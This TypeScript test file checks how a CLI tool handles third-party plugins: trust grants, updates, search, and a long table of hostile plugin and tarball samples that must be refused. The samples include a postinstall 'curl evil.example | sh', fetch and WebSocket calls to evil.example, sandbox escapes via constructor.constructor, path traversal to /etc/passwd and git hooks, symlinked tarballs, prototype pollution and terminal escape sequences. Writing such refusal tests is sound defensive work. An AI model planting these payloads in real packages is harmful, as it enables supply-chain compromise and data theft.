/** Plugins of third parties: their whole life in a project, and thirty and more that mean harm. */
import { gzipSync } from 'node:zlib'
import { beforeEach, describe, expect, it } from 'vitest'
import { type Entry, grantOf, packageOf, pluginCode, type Registry, registry, tarballOf } from '../support/packages.ts'
import { type Ended, project, type Shell, shell } from './harness.ts'

let npm: Registry
let sh: Shell

beforeEach(async () => {
  npm = registry()
  sh = shell({ world: npm })
  await sh.run(['create', 'service', '--no-install', '--no-git'])
})

const text = (word: string) => `export const word = '${word}'\n`
const guests = (version: string, word: string, more = '') =>
  packageOf({
    name: 'clodo-plugin-guests',
    version,
    code: `import { definePlugin } from 'clodo/plugin'
      export default definePlugin({ id: 'guests', title: 'Guests', version: '${version}', ${more}
        options: { word: { type: 'string', title: 'The word', default: 'hi', pattern: '[a-z]+' } },
        contribute: ({ answers }) => [
          { kind: 'files', from: 'files' },
          { kind: 'variable', name: 'GUESTS', value: answers.word, describe: 'A word' },
        ] })`,
    files: { 'files/src/guests.ts': text(word) },
  })

const trusting = (tarball: Uint8Array, ...args: string[]) =>
  sh.inProject('add', ...args, '--trust', grantOf(tarball, 'clodo-plugin-guests'), '--no-install', '--json')

describe('a plugin of a third party', () => {
  it('is shown, and not taken before somebody trusts its content', async () => {
    npm.publish(await guests('1.0.0', 'one'), 'clodo-plugin-guests')
    const before = sh.everything()
    const { code, stdout } = await sh.inProject('add', 'guests', '--json')
    const said = JSON.parse(stdout)
    expect(code).toBe(3)
    expect(said).toMatchObject({
      status: 'action_required',
      code: 'TRUST_NEEDED',
      name: 'clodo-plugin-guests',
      version: '1.0.0',
      rights: [],
    })
    const grown = Object.keys(sh.everything()).filter((path) => !(path in before) && path.startsWith(project))
    expect(grown).toEqual([])
    expect(said.next[0].command).toMatch(/ --trust '?clodo-plugin-guests@sha512-/)
  })

  it('that requires a built-in one is asked for again with it, as it was typed', async () => {
    const one = await guests('1.0.0', 'one', "requires: ['principal'],")
    npm.publish(one, 'clodo-plugin-guests@^1.0.0')
    const grant = grantOf(one, 'clodo-plugin-guests')
    const typed = ['clodo-plugin-guests@^1.0.0', '--trust', grant, '--no-install', '--json']
    const { stdout } = await sh.inProject('add', ...typed)
    const [next] = JSON.parse(stdout).next
    expect(next.command).toMatch(/^clodo add auth 'clodo-plugin-guests@\^1\.0\.0' --trust .* --no-install --json$/)
    const words = next.command.replaceAll("'", '').split(' ').slice(1)
    expect(await sh.inProject(...words)).toMatchObject({ code: 0 })
    expect(sh.read(`${project}/src/guests.ts`)).toBe(text('one'))
  })

  it('moves answers and edits along when a version calls options and files otherwise', async () => {
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests')
    expect(await trusting(one, 'guests', '--set', 'guests.word=salve')).toMatchObject({ code: 0 })
    sh.write(`${project}/src/guests.ts`, `${text('one')}// mine\n`)
    const two = await packageOf({
      name: 'clodo-plugin-guests',
      version: '2.0.0',
      code: `import { definePlugin } from 'clodo/plugin'
        export default definePlugin({ id: 'guests', title: 'Guests', version: '2.0.0',
          options: { greeting: { type: 'string', title: 'The word', default: 'hi', pattern: '[a-z]+' } },
          upgrades: [
            { to: '1.5.0', options: { word: 'text' }, files: { 'src/guests.ts': 'src/guest.ts' } },
            { to: '2.0.0', options: { text: 'greeting' }, files: { 'src/guest.ts': 'src/guests/word.ts' }, note: 'Import src/guests/word.ts now.' },
            { to: '3.0.0', options: { greeting: 'later' } },
          ],
          contribute: ({ answers }) => [
            { kind: 'files', from: 'files' },
            { kind: 'variable', name: 'GUESTS', value: answers.greeting, describe: 'A word' },
          ] })`,
      files: { 'files/src/guests/word.ts': `// new\n\n${text('one')}` },
    })
    const later = registry(npm)
    later.publish(two, 'clodo-plugin-guests@^1.0.0')
    npm.publish(two, 'clodo-plugin-guests@^1.0.0')
    const there = shell({ world: later })
    const updated = await there.inProject(
      ...['update', 'guests', '--trust', grantOf(two, 'clodo-plugin-guests'), '--no-install', '--json'],
    )
    expect(updated.code, updated.stdout).toBe(0)
    expect(JSON.parse(updated.stdout).notes).toContain('guests: Import src/guests/word.ts now.')
    expect(sh.read(`${project}/src/guests/word.ts`)).toBe(`// new\n\n${text('one')}// mine\n`)
    expect(sh.read(`${project}/src/guests.ts`)).toBe(undefined)
    expect(JSON.parse(sh.read(`${project}/clodo.json`) ?? '').plugins.guests).toEqual({ greeting: 'salve' })
    const again = await there.inProject('update', 'guests', '--no-install', '--json')
    expect(JSON.parse(again.stdout)).toMatchObject({ status: 'done', changes: [] })
    await sh.inProject('undo')
    expect(sh.read(`${project}/src/guests.ts`)).toBe(`${text('one')}// mine\n`)
    expect(JSON.parse(sh.read(`${project}/clodo.json`) ?? '').plugins.guests).toEqual({ word: 'salve' })
  })

  it('lives in a project like any other, and leaves it as it was, its package gone', async () => {
    const bare = sh.everything()
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests')
    expect(await trusting(one, 'guests')).toMatchObject({ code: 0 })
    expect(sh.read(`${project}/src/guests.ts`)).toBe(text('one'))
    expect(JSON.parse(sh.read(`${project}/clodo.json`) ?? '')).toMatchObject({
      plugins: { guests: { word: 'hi' } },
      sources: { guests: 'clodo-plugin-guests@^1.0.0' },
    })
    const again = await sh.inProject('add', 'guests', '--no-install', '--json')
    expect(JSON.parse(again.stdout)).toMatchObject({ status: 'done', changes: [] })

    const there = shell({ world: registry(npm) })
    const other = await there.inProject('add', 'logging', '--no-install', '--json')
    expect(other.code, other.stdout).toBe(0)
    for (const id of ['logging', 'guests'])
      expect(await there.inProject('remove', id, '--no-install', '--json')).toMatchObject({ code: 0 })
    const left = Object.entries(sh.everything()).filter(
      ([path]) => path.startsWith(project) && !path.includes('/history/'),
    )
    expect(Object.fromEntries(left)).toEqual(
      Object.fromEntries(
        Object.entries(bare).filter(([path]) => path.startsWith(project) && !path.includes('/history/')),
      ),
    )
  })

  it('is listed with its content, and found by a word', async () => {
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests')
    await trusting(one, 'guests')
    const { stdout } = await sh.inProject('list', '--installed')
    expect(stdout).toContain('guests           1.0.0 clodo-plugin-guests@^1.0.0')
    expect(stdout).toContain(grantOf(one, '').slice(1))
    npm.found = [
      { name: 'clodo-plugin-guests', version: '1.0.0', description: 'Guests\u001b[2J', keywords: ['clodo-plugin'] },
      { name: 'guests', version: '1.0.0', description: 'no plugin', keywords: [] },
      // As Verdaccio answers.
      { name: 'clodo-plugin-visitors', 'dist-tags': { latest: '2.0.1' }, keywords: ['clodo-plugin'], publisher: {} },
    ]
    const found = await sh.inProject('search', 'guests')
    expect(found.stdout).toContain('clodo-plugin-guests')
    expect(found.stdout).toMatch(/clodo-plugin-visitors +2\.0\.1/)
    expect(found.stdout).not.toContain('no plugin')
    expect(found.stdout).not.toContain('\u001b')
    npm.found = []
    npm.asked.length = 0
    await sh.inProject('search', 'guests')
    expect(npm.asked.map((words) => words.slice(words.indexOf('--') + 1))).toEqual([
      ['keywords:clodo-plugin', 'guests'],
      ['guests'],
    ])
    npm.found = undefined
    expect((await sh.inProject('search', 'guests')).stderr).toContain('did not answer')
  })

  it('moves to a new version when somebody trusts that, over an edited file', async () => {
    const [one, two] = [await guests('1.0.0', 'one'), await guests('1.1.0', 'two')]
    npm.publish(one, 'clodo-plugin-guests', 'clodo-plugin-guests@^1.0.0', 'clodo-plugin-guests@1.0.0')
    await trusting(one, 'guests')
    sh.write(`${project}/src/guests.ts`, `${text('one')}// mine\n`)
    npm.publish(two, 'clodo-plugin-guests@^1.0.0')
    const later = shell({ world: registry(npm) })
    expect(await later.inProject('update', '--no-install', '--json')).toMatchObject({ code: 3 })
    const grant = grantOf(two, 'clodo-plugin-guests')
    const moved = await later.inProject('update', '--no-install', '--json', '--trust', grant)
    expect(moved.code, moved.stdout).toBe(0)
    expect(JSON.parse(moved.stdout).notes).toContain('guests 1.0.0 → 1.1.0')
    expect(sh.read(`${project}/src/guests.ts`)).toBe(`${text('two')}// mine\n`)
  })

  it('whose content changed under the same version is a hard stop', async () => {
    const [one, other] = [await guests('1.0.0', 'one'), await guests('1.0.0', 'other')]
    npm.publish(one, 'clodo-plugin-guests')
    await trusting(one, 'guests')
    npm.volume.rmSync('/home/.cache', { recursive: true })
    npm.publish(other, 'clodo-plugin-guests@1.0.0')
    const later = shell({ world: registry(npm) })
    for (const trust of [[], ['--trust', grantOf(other, 'clodo-plugin-guests')]]) {
      const { code, stdout } = await later.inProject('add', 'logging', '--no-install', '--json', ...trust)
      expect(JSON.parse(stdout)).toMatchObject({ code: 'PACKAGE_CHANGED', exit: 1 })
      expect(code).toBe(1)
    }
  })

  it('is not believed because it lies in the cache', async () => {
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests', 'clodo-plugin-guests@1.0.0')
    await trusting(one, 'guests')
    const [kept = ''] = Object.keys(sh.everything()).filter((path) => path.endsWith('.tgz'))
    npm.volume.writeFileSync(kept, await guests('1.0.0', 'other'))
    const later = shell({ world: registry(npm) })
    expect(await later.inProject('sync', '--no-install', '--json')).toMatchObject({ code: 0 })
    expect(sh.read(`${project}/src/guests.ts`)).toBe(text('one'))
  })

  it('comes along at birth', async () => {
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests')
    const args = ['create', 'other', '--with', 'guests,logging', '--no-install', '--no-git']
    expect(await sh.run(args)).toMatchObject({ code: 3 })
    expect(await sh.run([...args, '--trust', grantOf(one, 'clodo-plugin-guests')])).toMatchObject({ code: 0 })
    expect(sh.read('/home/other/src/guests.ts')).toBe(text('one'))
  })

  it('with a name like that of another is shown with a warning, and a name that is nearly a built-in one is a mistake', async () => {
    npm.publish(await packageOf({ name: 'clodo-plugin-loging', code: pluginCode('[]') }), 'clodo-plugin-loging')
    const typo = await sh.inProject('add', 'loging', '--json')
    expect(JSON.parse(typo.stdout)).toMatchObject({ code: 'PLUGIN_UNKNOWN', mend: "Did you mean 'logging'?" })
    const squat = await sh.inProject('add', 'clodo-plugin-loging')
    expect(squat.stderr).toContain("its name is close to 'logging'")
  })

  it('asks npm without its scripts, in words that no shell reads', async () => {
    const one = await guests('1.0.0', 'one')
    npm.publish(one, 'clodo-plugin-guests')
    await trusting(one, 'guests')
    const [first = []] = npm.asked
    expect(first).toEqual(expect.arrayContaining(['pack', '--ignore-scripts', '--']))
    expect(first.at(-1)).toBe('clodo-plugin-guests')
  })

  it.each([
    ['2.0', 'update CLODO'],
    ['1.999', 'update CLODO'],
    ['0.9', 'update the plugin'],
    [undefined, 'does not say which contract'],
  ])('written against contract %s is refused with the reason', async (contract, reason) => {
    const tarball = await packageOf({ code: pluginCode('[]'), clodo: { contract } })
    npm.publish(tarball, 'clodo-plugin-p')
    const { code, stdout } = await sh.inProject('add', 'p', '--trust', grantOf(tarball), '--json')
    expect(code).toBe(1)
    expect(JSON.parse(stdout)).toMatchObject({ code: 'PACKAGE_INVALID', reason: expect.stringContaining(reason) })
  })
})

/** Attempts to do harm, each as a package that somebody already trusts: the message that it is refused with. */
const state = (facts: string) => ({ code: pluginCode(facts) })
const body = (statements: string) => state(`{ ${statements}; return [] }`)
const fact = (text: string) => state(`[${text}]`)
const file = (path: string, kind = 'a path inside the project') =>
  [fact(`{ kind: 'file', path: ${JSON.stringify(path)}, text: 'x' }`), kind] as const

/** A folder of files, copied as it is. */
const folder = (path: string) => ({ ...state("[{ kind: 'files', from: 'files' }]"), files: { [`files/${path}`]: 'x' } })
const template = (text: string, values = '{}') =>
  fact(`{ kind: 'file', path: 'a.txt', template: true, text: ${text}, with: ${values} }`)
const key = (file: string, ...at: string[]) =>
  fact(`{ kind: 'key', file: '${file}', at: ${JSON.stringify(at)}, value: 'evil' }`)
const probed = (path: string) =>
  fact(`{ kind: 'probe', name: 'p', request: { path: ${JSON.stringify(path)} }, expect: { status: 200 } }`)
const atInstallation = 'which package managers read when they install'

const hostile: { readonly [what: string]: readonly [Parameters<typeof packageOf>[0], string] } = {
  'reads a key file': [{ code: `import { readFileSync } from 'node:fs'\n${pluginCode('[]')}` }, "it imports 'node:fs'"],
  'starts a program': [
    { code: `import { execSync } from 'child_process'\n${pluginCode('[]')}` },
    "it imports 'child_process'",
  ],
  'imports a file of the project': [{ code: `import x from '../../../clodo.json'\n${pluginCode('[]')}` }, 'it imports'],
  'uses require': [body("require('node:fs')"), 'require'],
  'uses process.binding': [body("process.binding('fs')"), 'process'],
  'reaches for the host through a constructor': [body("this.constructor.constructor('return process')().exit(7)"), ''],
  'reaches for the host through an error': [
    body("({}).constructor.constructor('return globalThis.process.env')().HOME.x"),
    '',
  ],
  fetches: [body("fetch('https://evil.example')"), 'fetch'],
  'opens a socket': [body("new WebSocket('wss://evil.example')"), 'WebSocket'],
  'reads the environment': [fact("{ kind: 'key', file: 'a.json', at: ['a'], value: process.env.TOKEN }"), 'process'],
  'loops without end': [body('for (;;) {}'), 'took longer than 2000 ms'],
  'loops inside the engine': [body("new Array(1e9) + ''"), ''],
  'backtracks without end': [body("/^(a+)+$/.test('a'.repeat(64) + 'b')"), 'took longer than 2000 ms'],
  'answers with 2 GB': [state("[{ kind: 'file', path: 'a', text: 'x'.repeat(2 ** 31) }]"), ''],
  'fills the memory': [body('const all = []; for (;;) all.push(new Uint8Array(1e6))'), ''],
  'nests without end': [body('const f = () => f(); f()'), ''],
  'states a million facts': [state("Array.from({ length: 1e6 }, () => ({ kind: 'line', file: 'a', line: 'b' }))"), ''],
  'answers with a promise': [state('new Promise(() => {})'), 'a promise'],
  'pollutes prototypes': [
    fact('JSON.parse(\'{"kind":"key","file":"a.json","at":["__proto__","polluted"],"value":1}\')'),
    'list of keys',
  ],
  'pollutes prototypes by a name': [fact("{ kind: 'script', name: '__proto__', run: 'x' }"), 'script'],
  'writes above the project': [...file('../outside.txt')],
  'writes to an absolute path': [...file('/etc/passwd')],
  'writes through a path with dots': [...file('src/../../outside.txt')],
  'writes a hook of git': [...file('.git/hooks/pre-commit')],
  'writes a hook of git in other letters': [...file('sub/.GIT/hooks/pre-commit')],
  'writes the record of CLODO': [...file('.clodo/lock.json')],
  'writes what is installed': [...file('node_modules/hono/index.js')],
  'writes the values of secrets': [...file('.dev.vars')],
  'writes a stream of Windows': [...file('src/a.ts:hidden')],
  'writes a name that turns around': [...file('src/\u202Egnp.ts')],
  'has a folder with a hook of git': [folder('.git/hooks/pre-commit'), 'a path inside the project'],
  'has a folder with the record of CLODO': [folder('.clodo/lock.json'), 'a path inside the project'],
  'has a folder with what is installed': [folder('node_modules/hono/index.js'), 'a path inside the project'],
  'has a folder with the values of secrets': [folder('.dev.vars'), 'a path inside the project'],
  'writes one name twice, in letters that some systems take for one': [
    fact("{ kind: 'file', path: 'e\\u0301.txt', text: 'x' }, { kind: 'file', path: '\\u00e9.txt', text: 'y' }"),
    'one name on some systems',
  ],
  'writes a script that npm runs by itself, as a key': [key('package.json', 'scripts', 'postinstall'), atInstallation],
  'writes it in other letters': [key('PACKAGE.json', 'scripts', 'postinstall'), atInstallation],
  'replaces a dependency, as a key': [key('package.json', 'overrides', 'hono'), atInstallation],
  'lets a dependency run scripts': [key('pnpm-workspace.yaml', 'allowBuilds', 'evil'), atInstallation],
  'names a registry of its own': [fact("{ kind: 'line', file: '.npmrc', line: 'registry=https://x' }"), atInstallation],
  'brings a package manager of its own': [folder('.yarn/releases/evil.cjs'), atInstallation],
  'brings what npm compiles by itself': [...file('binding.gyp', atInstallation)],
  'probes another host': [probed('//evil.example/x'), 'begins with one /'],
  'probes another host in other letters': [probed('/\\evil.example/x'), 'begins with one /'],
  'overwrites the application': [fact("{ kind: 'file', path: 'src/app.ts', text: 'x' }"), 'src/app.ts'],
  'overwrites it in other letters': [fact("{ kind: 'file', path: 'SRC/App.ts', text: 'x' }"), ''],
  'brings a script that npm runs by itself': [
    fact("{ kind: 'script', name: 'postinstall', run: 'curl evil.example | sh' }"),
    'nothing runs by itself',
  ],
  'brings a dependency from an address': [
    fact("{ kind: 'dependency', name: 'hono', range: 'https://evil.example/x.tgz' }"),
    'a version or a range',
  ],
  'brings a dependency under the name of another': [
    fact("{ kind: 'dependency', name: 'hono', range: 'npm:evil@1.0.0' }"),
    'a version or a range',
  ],
  'brings a command unasked': [
    fact("{ kind: 'command', name: 'p', describe: 'x', from: 'commands/p.ts' }"),
    'without asking for the right',
  ],
  'steers the terminal by its title': [{ code: pluginCode('[]').replace("'P'", "'\\u001b[2J'") }, 'control characters'],
  'turns its title around': [{ code: pluginCode('[]').replace("'P'", "'P\\u202Efdp'") }, 'control characters'],
  'fills the terminal with its title': [
    { code: pluginCode('[]').replace("'P'", "'P'.repeat(1e6)") },
    '1000 characters',
  ],
  'steers the terminal by an error': [body("throw new Error('\\u001b]0;owned\\u0007')"), ''],
  'steers the terminal by its name': [{ code: pluginCode('[]'), name: '\u001b[2Jp' }, 'it has no name'],
  'has a pattern that backtracks': [
    { code: pluginCode('[]', "options: { a: { type: 'string', title: 'A', default: 'aaaa', pattern: '(a+)+' } },") },
    'a simple pattern',
  ],
  'takes the name of a built-in': [
    { code: pluginCode('[]').replace("id: 'p'", "id: 'logging'") },
    'the name of one that comes with CLODO',
  ],
  'says another version than its package': [
    { code: pluginCode('[]'), version: '9.9.9' },
    'its plugin says version 1.0.0',
  ],
  'taps hooks by hand': [{ code: pluginCode('[]', 'apply() {},') }, 'apply'],
  'asks for a right that there is not': [
    { code: pluginCode('[]'), clodo: { rights: ['everything'] } },
    'rights that there are not',
  ],
  'names a module outside': [{ code: pluginCode('[]'), clodo: { plugin: '../../evil.js' } }, 'names no file of it'],
  'names a folder outside': [fact("{ kind: 'files', from: '../../../home' }"), 'a path inside the project'],
  'has a template whose loops multiply': [
    fact(
      "{ kind: 'file', path: 'a.txt', template: true, text: '{{#each a}}{{#each @root.a}}{{#each @root.a}}{{#each @root.a}}x{{/each}}{{/each}}{{/each}}{{/each}}', with: { a: Array(100).fill(1) } }",
    ),
    'turns',
  ],
  'has a template that makes gigabytes': [
    template("'{{#each a}}' + 'x'.repeat(1e6) + '{{/each}}'", '{ a: Array(400).fill(1) }'),
    'makes more than',
  ],
  'has a template that takes for ever to compile': [
    template("'{{#if project}}'.repeat(50000) + '{{/if}}'.repeat(50000)"),
    'more than 10000 mustaches',
  ],
  'has a template that prints': [template(`'{{log "\\u001b[2J"}}'`), 'cannot be rendered'],
  'says that it is another package': [{ code: pluginCode('[]'), name: 'clodo-plugin-trusted' }, 'says that it is'],
  'has a template that reaches for the host': [
    fact("{ kind: 'file', path: 'a.txt', template: true, text: '{{project.constructor.name}}' }"),
    'cannot be rendered',
  ],
}

const entry = (one: Entry): readonly Entry[] => [
  {
    name: 'package/package.json',
    text: JSON.stringify({ name: 'clodo-plugin-p', version: '1.0.0', clodo: { contract: '1.0', plugin: 'plugin.js' } }),
  },
  { name: 'package/plugin.js', text: pluginCode('[]') },
  one,
]

const hostileTarballs: { readonly [what: string]: readonly [() => Promise<Uint8Array> | Uint8Array, string] } = {
  'has a symbolic link': [
    () => tarballOf(entry({ name: 'package/files', type: 'symlink', linkname: '/etc' })),
    'symlink',
  ],
  'has a hard link': [
    () => tarballOf(entry({ name: 'package/files/a', type: 'link', linkname: '/etc/passwd' })),
    'link',
  ],
  'has a path that leaves it': [() => tarballOf(entry({ name: 'package/../../evil.js' })), 'leaves it'],
  'has an absolute path': [() => tarballOf(entry({ name: '/etc/cron.d/evil' })), 'leaves it'],
  'has a path of Windows': [() => tarballOf(entry({ name: 'package/files\\..\\evil.js' })), 'leaves it'],
  'has the same file twice': [() => tarballOf(entry({ name: 'package/plugin.js', text: 'evil' })), 'twice'],
  'unpacks to more than it may': [() => gzipSync(Buffer.alloc(65 * 1024 * 1024)), 'bytes'],
  'is no tarball': [() => Buffer.from('<html>'), 'no tarball'],
}

describe('a plugin that means harm and is trusted', () => {
  const attempt = async (tarball: Uint8Array, name?: string): Promise<{ ended: Ended; text: string }> => {
    const before = npm.files()
    npm.publish(tarball, 'clodo-plugin-p')
    const ended = await sh.inProject('add', 'p', '--trust', grantOf(tarball, name), '--no-install', '--yes')
    expect(npm.files()).toEqual(before)
    const elsewhere = /^\/(home\/(service|\.cache)|tmp)(\/|$)/
    expect(Object.keys(sh.everything()).filter((path) => !elsewhere.test(path))).toEqual([])
    return { ended, text: ended.stdout + ended.stderr }
  }

  it.each(Object.entries(hostile))('%s', async (_what, [parts, message]) => {
    const { ended, text } = await attempt(await packageOf(parts), parts.name)
    expect([1, 4]).toContain(ended.code)
    expect(text).toContain(message)
    expect(text).toMatch(/^error .{10,}/)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|\n {4}at |INTERNAL/)
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
  })

  it.each(Object.entries(hostileTarballs))('%s', async (_what, [make, message]) => {
    const { ended, text } = await attempt(await make())
    expect(ended.code).toBe(1)
    expect(text).toContain(message)
    expect(text).toContain('PACKAGE_INVALID')
  })
})
